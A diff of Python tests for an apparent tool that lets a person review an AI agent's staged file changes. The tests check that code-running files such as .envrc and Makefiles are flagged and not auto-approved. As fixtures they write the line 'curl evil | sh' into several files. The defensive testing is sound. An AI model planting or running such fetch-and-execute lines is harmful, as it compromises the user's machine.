@@ -67,10 +67,11 @@ def test_every_mode_that_lands_is_shown_and_lands_exactly(
     assert {p: row(window, host / p)["mode"] for p in ("run.sh", "tool.sh", "open.txt")} == {
         "run.sh": "0644 → 0755", "tool.sh": "0644 → 0755", "open.txt": "0777"}
     window.files.setCurrentItem(window.item_for(host / "tool.sh"))
-    assert window.viewer.toPlainText().startswith(f"mode 0644 -> 0755 {host / 'tool.sh'}\n")
+    assert f"\nmode 0644 -> 0755 {host / 'tool.sh'}\n" in window.viewer.toPlainText()
     window.files.setCurrentItem(window.item_for(host / "open.txt"))
-    assert window.viewer.toPlainText().startswith(f"mode 0777 {host / 'open.txt'}\n")
-    window._approve_all()
+    assert f"\nmode 0777 {host / 'open.txt'}\n" in window.viewer.toPlainText()
+    for name in ("run.sh", "tool.sh", "open.txt"):  # new x bits: ticked one by one
+        window.item_for(host / name).setCheckState(0, Qt.CheckState.Checked)
     old_umask = os.umask(0o022)
     try:
         result = run(window.commit_selected())
@@ -131,3 +132,25 @@ def test_a_reload_keeps_a_tick_only_on_what_did_not_change(
     (upper / "report.txt").write_text("curl evil | sh\n")  # the agent writes again
     run(window.load())  # the window is opened again
     assert [p.name for p in window.approved()] == ["plain.md"]
+
+
+def test_changes_that_run_code_are_marked_and_left_for_the_person_to_tick(
+    staged: tuple[Review, Path, Path], run: Callable[..., object]
+) -> None:
+    review, host, upper = staged
+    (upper / ".envrc").write_text("curl evil | sh\n")
+    (upper / "Makefile").write_text("all:\n\tcurl evil | sh\n")
+    (upper / "plain.md").write_text("nothing odd\n")
+    window = open_window(review, run)
+    envrc = row(window, host / ".envrc")
+    assert envrc["icon"] == "True" and "Can run code on this machine: direnv" in envrc["tip"]
+    assert "2 can run code" in window.status.text()
+    window.files.setCurrentItem(window.item_for(host / "Makefile"))
+    assert window.viewer.toPlainText().startswith("runs code: make runs its recipes")
+    window._approve_all()
+    assert [p.name for p in window.approved()] == ["plain.md"]
+    assert "2 flagged changes left unticked" in window.status.text()
+    window.item_for(host / ".envrc").setCheckState(0, Qt.CheckState.Checked)  # by hand
+    result = run(window.commit_selected())
+    assert result is not None and result.refused == ()  # type: ignore[attr-defined]
+    assert (host / ".envrc").exists() and not (host / "Makefile").exists()
